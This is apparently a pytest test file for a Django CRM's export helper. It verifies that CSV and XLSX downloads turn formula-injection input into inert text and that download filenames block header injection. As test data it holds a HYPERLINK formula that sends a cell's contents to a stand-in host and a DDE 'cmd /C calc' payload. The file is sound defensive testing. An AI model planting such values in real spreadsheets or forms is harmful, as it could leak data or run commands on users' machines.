"""Formula cells come out inert in every file the product writes, and only the export helper writes files.

A customer typed (or imported) as `=HYPERLINK("http://x"&B2,"点")` must not become a live formula in
the dealer's Excel: in CSV the cell starts with `'`, in XLSX it is a string cell (data_type "s").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from crm.cadence.tasks import cadence_maintenance_list_store
from crm.models import Customer
from crm.models.cadence import MaintenanceDueList
from hq.services.policies import group_policy_bootstrap, store_policy_adopt_current
from tenants.exports import ascii_filename, content_disposition, csv_bytes, xlsx_bytes
from tenants.models import Store
from tests.conftest import client_for
from tests.crm.cadence.conftest import vehicle
from tests.world import World

EVIL = '=HYPERLINK("http://x"&B2,"点")'
EVIL_IMPORTED = '@SUM(1+1)*cmd|" /C calc"!A0'
ROOT = Path(__file__).resolve().parents[2]
# 2026-11-30 is the month's last day; the list then covers December 2026.
MONTH_END = dt.datetime(2026, 11, 30, 20, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))


def _xlsx_cells(body: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(body))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert_xlsx(body: bytes, *texts: str) -> None:
    cells = _xlsx_cells(body)
    for text in texts:
        hits = [c for c in cells if c.value == text]
        assert hits, f"{text!r} missing from the workbook"
        assert all(c.data_type == "s" for c in hits), [c.data_type for c in hits]
    assert not [c for c in cells if c.data_type == "f"], "no formula cell anywhere"


def _assert_inert_csv(body: bytes, *texts: str) -> None:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    flat = [v for r in rows for v in r]
    for text in texts:
        assert "'" + text in flat and text not in flat
    assert not [v for v in flat if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_helper_neutralises_text_and_keeps_numbers() -> None:
    rows = [["=1+1", "+86", "-x", "@a", "\tt", "\rr", "ok", -5, 3.5, None, "控\x01制"]]
    out = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"))))
    assert out == [["'=1+1", "'+86", "'-x", "'@a", "'\tt", "'\rr", "ok", "-5", "3.5", "", "控制"]]
    ws = load_workbook(io.BytesIO(xlsx_bytes(rows))).active
    cells = next(ws.iter_rows())
    assert [c.data_type for c in cells[:7]] == ["s"] * 7 and cells[0].value == "=1+1"
    assert (cells[7].value, cells[7].data_type, cells[8].value) == (-5, "n", 3.5)
    assert cells[10].value == "控制"  # a control character openpyxl refuses is dropped, not a 500


def test_download_names_carry_an_ascii_fallback_and_the_utf8_name() -> None:
    assert content_disposition("回访月报-2026-11.xlsx", fallback="report-2026-11.xlsx") == (
        "attachment; filename=\"report-2026-11.xlsx\"; "
        "filename*=UTF-8''%E5%9B%9E%E8%AE%BF%E6%9C%88%E6%8A%A5-2026-11.xlsx")
    assert ascii_filename('回访"月报.xlsx') == "download.xlsx"
    assert ascii_filename('a"b\r\n;c.csv') == "a_b_c.csv"  # no header injection through a name


@pytest.fixture
def evil_customers(world: World, db: Any) -> tuple[int, int]:
    """One customer typed through the new-customer form, one arriving by import; both with formula names."""
    host = world.host(world.store_a)
    manager = client_for(world.user("a.sales_manager"), host)
    r = manager.post("/customers/new/", {"name": EVIL, "mobile": "13955556666", "gender": "m"})
    assert r.status_code == 302, r.content.decode()[:2000]
    upload = f"姓名,手机号\n\"{EVIL_IMPORTED.replace(chr(34), chr(34) * 2)}\",13955557777\n".encode()
    job_url = manager.post("/customers/import/", {"file": SimpleUploadedFile("c.csv", upload)})["Location"]
    manager.post(job_url + "confirm/")
    with tenant_context(world.store_a):
        typed = Customer.objects.get(mobile="13955556666")
        imported = Customer.objects.get(mobile="13955557777")
        assert (typed.name, imported.name) == (EVIL, EVIL_IMPORTED)
        return typed.pk, imported.pk


def test_the_customer_export_is_inert(world: World, evil_customers: Any) -> None:
    client = client_for(world.user("a.sales_manager"), world.host(world.store_a))
    xlsx = client.get("/customers/export.xlsx")
    assert xlsx["Content-Disposition"].startswith('attachment; filename="customers.xlsx"')
    _assert_inert_xlsx(xlsx.content, EVIL, EVIL_IMPORTED)
    _assert_inert_csv(client.get("/customers/export.csv").content, EVIL, EVIL_IMPORTED)


def test_the_month_end_maintenance_list_is_inert(world: World, evil_customers: Any, settings: Any,
                                                 tmp_path: Path) -> None:
    settings.MEDIA_ROOT = str(tmp_path)
    group_policy_bootstrap(group=world.group_x)
    store_policy_adopt_current(store=world.store_a)
    with time_machine.travel(MONTH_END, tick=False):
        with tenant_context(world.store_a):
            for pk in evil_customers:  # 首保 due in December: delivered 170 days before Nov 30
                vehicle(Customer.objects.get(pk=pk), delivered_on=dt.date(2026, 11, 30) - dt.timedelta(days=170))
            assert cadence_maintenance_list_store() == 2
            pk = MaintenanceDueList.objects.get().pk
        client = client_for(world.user("a.customer_service"), world.host(world.store_a))
        _assert_inert_xlsx(client.get(f"/cadence/maintenance-due/lists/{pk}/download/").content,
                           EVIL, EVIL_IMPORTED)
        _assert_inert_xlsx(client.get("/cadence/maintenance-due.xlsx").content, EVIL, EVIL_IMPORTED)
        _assert_inert_csv(client.get("/cadence/maintenance-due.csv").content, EVIL, EVIL_IMPORTED)


def test_the_report_and_the_hq_comparison_are_inert(world: World, db: Any) -> None:
    """Store names come from HQ's onboarding form: a formula there stays text in both workbooks."""
    group_policy_bootstrap(group=world.group_x)
    store_policy_adopt_current(store=world.store_a)
    Store.objects.filter(pk=world.store_a.pk).update(name=EVIL)
    with time_machine.travel(MONTH_END, tick=False):
        report = client_for(world.user("a.customer_service"), world.host(world.store_a)).get(
            "/aftersales/report.xlsx?month=2026-11")
        assert report.status_code == 200
        assert "filename*=UTF-8''%E5%9B%9E%E8%AE%BF" in report["Content-Disposition"]
        _assert_inert_xlsx(report.content, f"{EVIL} 回访月报（2026年11月）")
        hq = client_for(world.user("x.hq_analyst")).get(
            "/hq/compare/export.xlsx", {"period": "2026-10", "metrics": ["conversion_rate"]})
        assert hq.status_code == 200
        _assert_inert_xlsx(hq.content, EVIL)


def test_only_the_export_helper_writes_download_files() -> None:
    """Guard: no module but tenants/exports.py sets Content-Disposition or builds an openpyxl Workbook."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", ".data/")) or rel == "tenants/exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"Content-Disposition|\bWorkbook\s*\(|from openpyxl import[^\n]*\bWorkbook\b", text):
            offenders.append(rel)
    assert offenders == []
